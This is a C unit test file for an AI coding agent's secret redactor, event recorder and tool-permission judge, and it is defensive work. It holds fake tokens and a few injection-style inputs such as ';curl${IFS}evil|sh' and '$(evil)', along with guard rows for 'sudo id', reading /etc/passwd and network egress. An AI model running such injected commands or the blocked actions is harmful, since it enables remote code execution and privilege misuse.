#include "../t.h"

#include "agents/judge.h"
#include "agents/record.h"
#include "agents/redact.h"

static void secrets_are_taken_out(void **state)
{
	static const struct {
		const char *text, *want;
	} rows[] = {
		{"nothing here", "nothing here"},
		{"a sk-abcdefghijklmnopqrstuvwx b", "a [redacted] b"},
		{"risk-aaaaaaaaaaaaaaaaaaaaaaaaaa", "risk-aaaaaaaaaaaaaaaaaaaaaaaaaa"},
		{"sk-short", "sk-short"},
		{"ghp_0123456789012345678901234567890123456789.", "[redacted]."},
		{"github_pat_0123456789_0123456789ab", "[redacted]"},
		{"curl -H 'Authorization: Bearer abcdefghijkl' x", "curl -H 'Authorization: Bearer [redacted]' x"},
		{"authorization: basic dXNlcjpzZWNyZXQ=", "authorization: basic [redacted]"},
		{"tool --api-key=abc --token abc --key k",
		 "tool --api-key=[redacted] --token [redacted] --key [redacted]"},
		{"git clone https://x-access-token:abc@github.com/o/r",
		 "git clone https://x-access-token:[redacted]@github.com/o/r"},
		{"postgres://me:pw@db/x and http://host:80/a@b",
		 "postgres://me:[redacted]@db/x and http://host:80/a@b"},
		{"export GH_TOKEN=abc TICKETING_API_KEY='x y'",
		 "export GH_TOKEN=[redacted] TICKETING_API_KEY='[redacted] y'"},
		{"{\"api-key\": \"abc\", \"token\":\"t\"}", "{\"api-key\": \"[redacted]\", \"token\":\"[redacted]\"}"},
		{"lin_api_abcdefghij", "[redacted]"},
		{"--password 'abc' --token \"x.y\"", "--password '[redacted]' --token \"[redacted]\""},
		/* what a shell would act on is never hidden */
		{"--token=;curl${IFS}evil|sh", "--token=;curl${IFS}evil|sh"},
		{"GH_TOKEN=$(evil) x://u:`evil`@h --key a;evil",
		 "GH_TOKEN=$(evil) x://u:`evil`@h --key [redacted];evil"},
		{"tokens=3 input_tokens=4", "tokens=3 input_tokens=4"},
		{"", ""},
	};

	(void)state;
	for (size_t i = 0; i < CC_COUNT(rows); i++) {
		struct cc_buf out;

		cc_buf_init(&out, 4096);
		cc_redact(cc_view_of(rows[i].text), &out);
		if (strcmp(out.data ? out.data : "", rows[i].want) != 0)
			fail_msg("\"%s\" became \"%s\"", rows[i].text, out.data ? out.data : "");
		cc_buf_done(&out);
	}
}

static void names_are_the_agent_s_text_too(void **state)
{
	static const struct {
		const char *json, *want;
	} rows[] = {
		{"{\"a\":1,\"command\":\"ls\"}", "{\"a\":1,\"command\":\"ls\"}"},
		{"{\"ghp_0123456789012345678901234567890123456789\":\"x\"}", "{\"[redacted] #1\":\"x\"}"},
		{"[{\"b\":{\"curl --token abc\":[1]}}]", "[{\"b\":{\"curl --token [redacted] #1\":\"[redacted]\"}}]"},
		/* two that become the same, and one that looks like what they become */
		{"{\"--key a\":1,\"--key b\":2,\"--key [redacted] #1\":3}",
		 "{\"--key [redacted] #1\":1,\"--key [redacted] #2\":2,\"--key [redacted] #1 #3\":3}"},
		{"{\"GH_TOKEN=abc\":\"x\",\"\":2}", "{\"GH_TOKEN=[redacted] #1\":\"[redacted]\",\"\":2}"},
	};

	(void)state;
	for (size_t i = 0; i < CC_COUNT(rows); i++) {
		CC_AUTO(cc_json_doc) doc = NULL;
		struct cc_err err = {0};
		struct cc_buf out;
		struct cc_jsonw w;

		T_OK(cc_json_parse("t", cc_view_of(rows[i].json), 0, &doc, &err), err);
		cc_buf_init(&out, 4096);
		cc_jsonw_init(&w, &out);
		cc_redact_json(cc_json_root(doc), &w);
		assert_string_equal(out.data, rows[i].want);
		cc_buf_done(&out);
	}
}

static void counts_of_tokens_are_counts(void **state)
{
	static const struct {
		const char *json;
		int64_t want;
	} rows[] = {{"{\"n\":3}", 3},
		    {"{\"n\":-3}", 0},
		    {"{\"n\":-9223372036854775808}", 0},
		    {"{\"n\":9223372036854775807}", 0},
		    {"{\"n\":1000000000000}", CC_AGENT_TOKENS_MAX},
		    {"{\"n\":\"3\"}", 0},
		    {"{}", 0}};

	(void)state;
	for (size_t i = 0; i < CC_COUNT(rows); i++) {
		CC_AUTO(cc_json_doc) doc = NULL;
		struct cc_err err = {0};

		T_OK(cc_json_parse("t", cc_view_of(rows[i].json), 0, &doc, &err), err);
		assert_int_equal(cc_agent_tokens(cc_json_root(doc), "n"), rows[i].want);
	}
}

static struct cc_buf lines;

static void on_line(void *context, struct cc_view object)
{
	(void)context;
	cc_buf_add(&lines, object.ptr, object.len);
	cc_buf_adds(&lines, "\n");
}

static void say(struct cc_recorder *recorder, enum cc_agent_event_type type, const char *text, int64_t now)
{
	struct cc_agent_event event = {.type = type, .text = cc_view_of(text)};

	cc_recorder_add(recorder, &event, now);
}

static void pieces_become_one(void **state)
{
	struct cc_recorder recorder;
	char big[CC_AGENT_TEXT_MAX + 100];

	(void)state;
	cc_buf_init(&lines, 1 << 20);
	cc_recorder_init(&recorder, on_line, NULL);
	say(&recorder, CC_AGENT_TEXT, "one ", 0);
	say(&recorder, CC_AGENT_TEXT, "two ", 10);
	assert_int_equal(lines.len, 0);
	say(&recorder, CC_AGENT_THINKING, "hm", 20);
	assert_string_equal(lines.data, "{\"type\":\"text\",\"content\":\"one two \"}\n");
	say(&recorder, CC_AGENT_DEBUG, "x", 30);
	assert_non_null(strstr(lines.data, "\"thinking\",\"content\":\"hm\"}\n{\"type\":\"debug\""));
	/* after a second what is whole goes out, and the beginning of a secret stays */
	cc_buf_reset(&lines);
	say(&recorder, CC_AGENT_TEXT, "some words first, then Authorization: Bearer abcd", 100);
	assert_int_equal(cc_recorder_tick(&recorder, 500), 600);
	cc_recorder_tick(&recorder, 1100);
	assert_string_equal(lines.data, "{\"type\":\"text\",\"content\":\"some words first, then \"}\n");
	say(&recorder, CC_AGENT_TEXT, "efghijkl", 1200);
	cc_recorder_flush(&recorder);
	assert_non_null(strstr(lines.data, "Bearer [redacted]\"}"));
	assert_null(strstr(lines.data, "abcd"));
	/* what is long comes in parts, and nothing of it is lost */
	cc_buf_reset(&lines);
	memset(big, 'w', sizeof(big) - 1);
	for (size_t i = 9; i < sizeof(big) - 1; i += 10)
		big[i] = ' ';
	big[sizeof(big) - 1] = '\0';
	say(&recorder, CC_AGENT_TEXT, big, 2000);
	assert_true(lines.len > CC_AGENT_TEXT_MAX - 600 && lines.len < CC_AGENT_TEXT_MAX + 100);
	cc_recorder_flush(&recorder);
	assert_true(lines.len >= sizeof(big) - 1);
	cc_recorder_done(&recorder);
	cc_buf_done(&lines);
}

static void an_event_has_a_bound(void **state)
{
	struct cc_agent_event event = {.type = CC_AGENT_TOOL_CALL, .tool = "Write", .id = "t"};
	CC_AUTO(cc_json_doc) doc = NULL;
	struct cc_buf text, out;
	struct cc_err err = {0};

	(void)state;
	cc_buf_init(&text, 4 << 20);
	cc_buf_init(&out, 1 << 20);
	cc_buf_adds(&text, "{\"password\":\"hunter2\",\"n\":{\"authToken\":[1]},\"many\":[");
	for (int i = 0; i < 20000; i++)
		cc_buf_addf(&text, "%s\"line %d\"", i ? "," : "", i);
	cc_buf_adds(&text, "]}");
	T_OK(cc_json_parse("t", cc_buf_view(&text), 0, &doc, &err), err);
	event.detail = cc_json_root(doc);
	cc_agent_event_write(&event, &out);
	assert_string_equal(out.data, "{\"type\":\"toolCall\",\"id\":\"t\",\"tool\":\"Write\",\"cut\":true}");
	cc_json_doc_free(cc_json_doc_take(&doc));
	cc_buf_reset(&out);
	T_OK(cc_json_parse("t", cc_view_of("{\"password\":\"hunter2\",\"n\":{\"authToken\":[1]},\"s\":\"GH_TOKEN=x\"}"),
			   0, &doc, &err),
	     err);
	event.detail = cc_json_root(doc);
	cc_agent_event_write(&event, &out);
	assert_non_null(strstr(
		out.data,
		"\"input\":{\"password\":\"[redacted]\",\"n\":{\"authToken\":\"[redacted]\"},\"s\":\"GH_TOKEN=[redacted]\"}"));
	cc_buf_done(&text);
	cc_buf_done(&out);
}

static void tools_come_to_their_verdict(void **state)
{
	static const struct cc_action_rule no_net = {
		.scope = CC_SCOPE_SPACE, .action = CC_ACTION_NETWORK_EGRESS, .verdict = CC_GUARD_DENY};
	static const struct cc_action_rule create = {
		.scope = CC_SCOPE_SPACE, .action = CC_ACTION_PR_CREATE, .verdict = CC_GUARD_ALLOW};
	static const struct {
		const char *tool, *input;
		enum cc_mode mode;
		const struct cc_action_rule *rule;
		enum cc_guard want;
	} rows[] = {
		{"Read", "{\"file_path\":\"/etc/passwd\"}", CC_MODE_PLAN, NULL, CC_GUARD_ALLOW},
		{"Bash", "{\"command\":\"make test\"}", CC_MODE_CHAT, NULL, CC_GUARD_ALLOW},
		{"Bash", "{\"command\":\"gh pr create\"}", CC_MODE_CHAT, NULL, CC_GUARD_ASK},
		{"Bash", "{\"command\":\"gh pr create\"}", CC_MODE_CHAT, &create, CC_GUARD_ALLOW},
		{"Bash", "{\"command\":\"gh pr create\"}", CC_MODE_PLAN, &create, CC_GUARD_DENY},
		{"Bash", "{\"command\":\"sudo id\"}", CC_MODE_CHAT, NULL, CC_GUARD_DENY},
		{"Bash", "{\"command\":\"cat a.txt\"}", CC_MODE_PLAN, NULL, CC_GUARD_ALLOW},
		{"Bash", "{\"command\":\"npm install x\"}", CC_MODE_PLAN, NULL, CC_GUARD_DENY},
		{"Bash", "{}", CC_MODE_CHAT, NULL, CC_GUARD_ASK},
		{"Bash", "{}", CC_MODE_PLAN, NULL, CC_GUARD_DENY},
		{"Bash", "{\"command\":\"\"}", CC_MODE_CHAT, NULL, CC_GUARD_DENY},
		{"Bash", "{\"command\":7}", CC_MODE_CHAT, NULL, CC_GUARD_ASK},
		{"Bash", "{\"command\":\"curl http://x\"}", CC_MODE_CHAT, &no_net, CC_GUARD_DENY},
		{"WebFetch", "{\"url\":\"http://x\"}", CC_MODE_CHAT, &no_net, CC_GUARD_DENY},
		{"WebFetch", "{\"url\":\"http://x\"}", CC_MODE_PLAN, NULL, CC_GUARD_ALLOW},
		{"Write", "{\"file_path\":\"/p/a\"}", CC_MODE_CHAT, NULL, CC_GUARD_ALLOW},
		{"Write", "{\"file_path\":\"/p/a\"}", CC_MODE_REVIEW, NULL, CC_GUARD_DENY},
		{"Monitor", "{\"command\":\"sudo id\"}", CC_MODE_CHAT, NULL, CC_GUARD_DENY},
		{"Read", "{\"command\":\"sudo id\"}", CC_MODE_CHAT, NULL, CC_GUARD_DENY},
		{"AskUserQuestion", "{}", CC_MODE_CHAT, NULL, CC_GUARD_DENY},
		{"mcp__x__y", "{}", CC_MODE_CHAT, NULL, CC_GUARD_ASK},
		{"mcp__x__y", "{}", CC_MODE_PLAN, NULL, CC_GUARD_DENY},
	};

	(void)state;
	for (size_t i = 0; i < CC_COUNT(rows); i++) {
		struct cc_tool_rules rules = {
			.rules = rows[i].rule, .count = rows[i].rule != NULL, .mode = rows[i].mode, .root = "/p"};
		CC_AUTO(cc_json_doc) doc = NULL;
		struct cc_tool_ask ask = {.tool = rows[i].tool, .kind = cc_tool_kind_of_name(rows[i].tool)};
		struct cc_tool_verdict verdict;
		struct cc_err err = {0};

		T_OK(cc_json_parse("t", cc_view_of(rows[i].input), 0, &doc, &err), err);
		ask.input = cc_json_root(doc);
		cc_tool_judge(&rules, &ask, &verdict);
		if (verdict.verdict != rows[i].want)
			fail_msg("row %zu: %s %s: %s (%s)", i, rows[i].tool, rows[i].input,
				 cc_guard_name(verdict.verdict), verdict.rule);
		T_ROW(verdict.rule[0], rows[i].tool);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(secrets_are_taken_out),       cmocka_unit_test(names_are_the_agent_s_text_too),
		cmocka_unit_test(counts_of_tokens_are_counts), cmocka_unit_test(pieces_become_one),
		cmocka_unit_test(an_event_has_a_bound),        cmocka_unit_test(tools_come_to_their_verdict),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
